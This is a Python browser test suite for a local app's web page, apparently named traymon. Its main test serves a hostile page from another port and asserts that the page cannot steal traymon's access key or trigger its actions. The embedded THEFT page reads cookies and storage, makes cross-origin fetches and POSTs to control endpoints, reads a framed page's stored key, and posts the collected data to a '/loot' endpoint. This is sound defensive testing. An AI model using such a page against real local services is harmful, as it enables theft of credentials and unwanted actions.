"""The page's key in a real Chromium: it stays where it belongs, and so does the user's way in."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import ExitStack, closing, contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from support.chromium import browser, is_here
from support.page_server import Served, served
from support.polling import wait_for
from traymon.ui.web.streams import MAX_STREAMS

# What a server on another port can try with a browser that has traymon's page open.
THEFT = """<!doctype html><title>thief</title><img src="{traymon}/status"><img src="/steal-image">
<iframe name="inside" src="{traymon}/"></iframe><iframe src="{traymon}/status"></iframe>
<iframe name="nowhere"></iframe>
<form method="post" action="{traymon}/pause" target="nowhere"></form>
<form id="own" method="post" action="/steal-form" target="nowhere"></form>
<script>
async function attempt(theft) {{
  try {{ return String(await theft()); }} catch (error) {{ return String(error); }}
}}
async function steal() {{
  const loot = [document.cookie, JSON.stringify(localStorage), JSON.stringify(sessionStorage)];
  for (const credentials of ["include", "same-origin"]) {{
    for (const path of ["/", "/status", "/events", "/report", "/page.js"]) {{
      for (const mode of ["cors", "no-cors"]) {{
        loot.push(await attempt(async () => {{
          const answer = await fetch("{traymon}" + path, {{ credentials, mode }});
          return answer.status + await answer.text();
        }}));
      }}
    }}
    for (const path of ["/pause", "/check-now", "/one-time", "/open-page", "/snooze/1h", "/key"]) {{
      loot.push(await attempt(() =>
        fetch("{traymon}" + path, {{ method: "POST", mode: "no-cors", credentials }})));
      loot.push(await attempt(() => fetch("{traymon}" + path,
        {{ method: "POST", credentials, headers: {{ Authorization: "Bearer guess" }} }})));
    }}
    await attempt(() => fetch("/steal-fetch", {{ credentials }}));
  }}
  loot.push(await attempt(() => frames.inside.localStorage["traymon-key"]));
  loot.push(await attempt(() => frames.inside.document.body.innerHTML));
  loot.push(await attempt(() => new Promise((resolve, reject) => {{
    const socket = new WebSocket("ws" + "{traymon}".slice(4) + "/events");
    socket.onopen = () => resolve("open");
    socket.onerror = () => reject("closed");
  }})));
  for (const form of document.forms) form.submit();
  await fetch("/loot", {{ method: "POST", body: loot.join("\\n") }});
}}
addEventListener("load", steal);
</script>"""


@dataclass
class Thief:
    """A server on another port, and all that it was sent."""

    address: str
    received: list[tuple[str, str, str]] = field(default_factory=list)  # path, headers, body

    @property
    def loot(self) -> str | None:
        """What its page found, once it has tried everything."""
        return next((body for path, _, body in self.received if path == "/loot"), None)


@contextmanager
def thief(traymon: str) -> Iterator[Thief]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = self.rfile.read(int(self.headers.get("content-length", "0"))).decode()
            scene.received.append((self.path, str(self.headers), body))
            page = THEFT.format(traymon=traymon) if self.path == "/" else ""
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page.encode())

        do_POST = do_GET

        def log_message(self, *_: Any) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        scene = Thief(f"http://127.0.0.1:{server.server_port}")
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield scene
        server.shutdown()
        thread.join()


@pytest.fixture
def page(chromium: Any) -> Iterator[Served]:
    with served() as page:
        page.show("handshake-silent")
        yield page
        for window in chromium.window_handles[1:]:
            chromium.switch_to.window(window)
            chromium.close()
        chromium.switch_to.window(chromium.window_handles[0])
        chromium.get("about:blank")


def headline(chromium: Any) -> str:
    return str(chromium.execute_script("return document.querySelector('h1')?.textContent ?? ''"))


def wait_for_headline(chromium: Any, words: str) -> None:
    wait_for(lambda: words in headline(chromium), f"{words!r} in the page's headline")


def test_a_server_on_another_port_gets_neither_the_key_nor_anything_from_the_page(
    chromium: Any, page: Served
) -> None:
    chromium.get(page.page.address())
    wait_for_headline(chromium, "TWS does not answer programs")
    asked = list(page.asked)
    with thief(f"http://127.0.0.1:{page.port}") as other:
        chromium.get(f"{other.address}/")
        loot = wait_for(lambda: other.loot, "the thief to have tried everything")
        wait_for(lambda: any(path == "/steal-form" for path, _, _ in other.received))
        everything = loot + "".join(" ".join(one) for one in other.received)
    for secret in (page.keys.page, page.keys.owner, "TWS does not answer programs", "words"):
        assert secret not in everything
    assert "cookie:" not in everything.lower()
    assert not [line for line in loot.splitlines() if line.startswith("200") or line == "open"]
    assert [one for one in page.asked if one not in (("viewer present", False), *asked)] == []
    chromium.get(f"http://127.0.0.1:{page.port}/")
    wait_for_headline(chromium, "TWS does not answer programs")  # the user still gets in


def test_the_key_is_in_no_address_that_the_browser_remembers(chromium: Any, page: Served) -> None:
    address = page.page.address()
    chromium.get(address)
    wait_for_headline(chromium, "TWS does not answer programs")
    assert chromium.current_url == f"http://127.0.0.1:{page.port}/"
    entries = chromium.execute_cdp_cmd("Page.getNavigationHistory", {})["entries"]
    assert [one for one in entries if "/open/" in one["url"] or page.keys.page in one["url"]] == []
    assert chromium.get_cookies() == []


def test_reload_another_tab_and_the_way_back_lead_to_the_page(chromium: Any, page: Served) -> None:
    chromium.get(page.page.address())
    wait_for_headline(chromium, "TWS does not answer programs")
    chromium.refresh()
    wait_for_headline(chromium, "TWS does not answer programs")
    chromium.execute_script("location = document.querySelector('.others a').href")
    wait_for(lambda: chromium.find_elements("css selector", ".back a"))
    chromium.find_element("css selector", ".back a").click()
    wait_for_headline(chromium, "TWS does not answer programs")
    chromium.switch_to.new_window("tab")
    chromium.get(f"http://127.0.0.1:{page.port}/")
    wait_for_headline(chromium, "TWS does not answer programs")
    chromium.execute_script("document.querySelector(`[data-post='/pause']`).click()")
    wait_for(lambda: "pause" in page.asked)


def test_without_access_it_says_how_to_open_it(chromium: Any, page: Served) -> None:
    address = page.page.address()
    chromium.get(f"http://127.0.0.1:{page.port}/")
    wait_for_headline(chromium, "Open this page from traymon")
    chromium.get(address)
    wait_for_headline(chromium, "TWS does not answer programs")
    chromium.get(address)  # used up, but this browser has access
    wait_for_headline(chromium, "TWS does not answer programs")
    page.keys.page = "that of another run"
    chromium.refresh()
    wait_for_headline(chromium, "traymon was restarted")
    chromium.get(address)
    wait_for_headline(chromium, "This address no longer works")
    assert "traymon open" in chromium.find_element("tag name", "main").text
    assert not chromium.execute_script("return document.querySelector('nav').checkVisibility()")
    assert chromium.title == "traymon"


def test_ten_tabs_load_and_live(chromium: Any, page: Served) -> None:
    tabs = []
    for _ in range(10):
        chromium.switch_to.new_window("tab")
        tabs.append(chromium.current_window_handle)
        chromium.get(page.page.address())
        wait_for_headline(chromium, "TWS does not answer programs")
    page.show("healthy")
    resting = 10 - MAX_STREAMS
    wait_for(lambda: titles(chromium, "✓ ") == MAX_STREAMS, "the newest tabs to follow")
    wait_for(lambda: titles(chromium, "(paused) ✗ ") == resting, "the oldest to say that they wait")
    chromium.switch_to.window(tabs[0])
    wait_for_headline(chromium, "Programs can connect")
    assert chromium.execute_script("return document.body.classList[0]") == "green"
    assert not chromium.execute_script("return document.getElementById('lost').checkVisibility()")
    wait_for(lambda: titles(chromium, "(paused) ") == resting, "another tab to wait instead")


def titles(chromium: Any, start: str) -> int:
    """Count the tabs with such a title, without bringing one of them to the front."""
    tabs = chromium.execute_cdp_cmd("Target.getTargets", {})["targetInfos"]
    return sum(tab["title"].startswith(start) for tab in tabs)


def test_a_page_that_rests_in_front_is_grey_and_a_click_wakes_it(
    chromium: Any, page: Served
) -> None:
    chromium.get(page.page.address())
    wait_for_headline(chromium, "TWS does not answer programs")
    with ExitStack() as stack:
        for _ in range(MAX_STREAMS):
            stream = stack.enter_context(closing(page.stream()))
            assert stream.readline()
        wait_for(lambda: chromium.title.startswith("(paused) ✗ "), "the page to rest")
        assert chromium.execute_script("return document.body.classList[0]") == "grey"
        assert "This one is paused" in chromium.find_element("id", "lost").text
        page.show("healthy")
        chromium.find_element("id", "lost").click()
        wait_for(lambda: chromium.title.startswith("✓ "), "the page to follow again")
        assert chromium.execute_script("return document.body.classList[0]") == "green"


def test_a_browser_that_blocks_site_data_shows_the_page_and_says_what_it_forgets() -> None:
    if not is_here():
        pytest.skip("a browser is needed: apt install chromium chromium-driver")
    blocked = {"profile.default_content_setting_values.cookies": 2}
    with served() as page, browser(**blocked) as chromium:
        page.show("handshake-silent")
        chromium.get(page.page.address())
        wait_for_headline(chromium, "TWS does not answer programs")
        hint = chromium.find_element("id", "forgetful")
        assert "blocks site data for 127.0.0.1" in hint.text
        page.show("healthy")
        wait_for_headline(chromium, "Programs can connect")
        chromium.refresh()
        wait_for_headline(chromium, "Open this page from traymon")
        chromium.get("about:blank")
